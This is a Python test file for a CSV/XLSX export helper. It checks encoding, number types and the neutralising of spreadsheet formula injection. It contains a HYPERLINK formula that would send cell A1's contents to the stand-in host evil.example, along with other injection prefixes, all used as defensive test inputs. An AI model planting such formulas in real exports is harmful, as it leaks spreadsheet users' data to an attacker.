import csv
import io
from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from voronka.core.tabular_export import tabular_response


def test_csv_export_is_utf8_with_bom_and_semicolons():
    response = tabular_response(
        "сделки",
        ["Название", "Сумма", "Дата"],
        [["Поставка; «A»", Decimal("10.50"), date(2026, 1, 2)], ["B", None, None]],
        "csv",
    )
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body == '\ufeffНазвание;Сумма;Дата\r\n"Поставка; «A»";10.50;2026-01-02\r\nB;;\r\n'
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%D1%81%D0%B4%D0%B5%D0%BB%D0%BA%D0%B8.csv"
    )


def test_xlsx_export_keeps_numbers_as_numbers():
    response = tabular_response(
        "deals", ["Title", "Amount"], [["A", Decimal("10.5")], ["B", 3]], "xlsx"
    )
    sheet = load_workbook(BytesIO(response.content)).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Title", "Amount"],
        ["A", 10.5],
        ["B", 3],
    ]


def test_unknown_format_is_a_programming_error():
    with pytest.raises(ValueError):
        tabular_response("x", ["a"], [], "pdf")


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("stored", "exported"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("a=b", "a=b"),
        ("-12,5", "-12,5"),
        ("Ctrl\u0001Char Co", "CtrlChar Co"),
        ("\u0002=1+1", "'=1+1"),
    ],
)
def test_csv_cells_are_neutralised_and_stripped(stored, exported):
    response = tabular_response("x", ["Name"], [[stored]], "csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))
    assert rows == [["Name"], [exported]]


def test_xlsx_never_stores_formulas_and_keeps_negative_numbers():
    response = tabular_response(
        "deals",
        ["Title", "Amount"],
        [[FORMULA, Decimal("-10.5")], ["Ctrl\u0001Char Co", -3], ["=1+1", None]],
        "xlsx",
    )
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [list(row) for row in sheet.iter_rows()]
    assert [[cell.value for cell in row] for row in cells] == [
        ["Title", "Amount"],
        ["'" + FORMULA, -10.5],
        ["CtrlChar Co", -3],
        ["'=1+1", None],
    ]
    assert {cell.data_type for row in cells for cell in row} <= {"s", "n"}
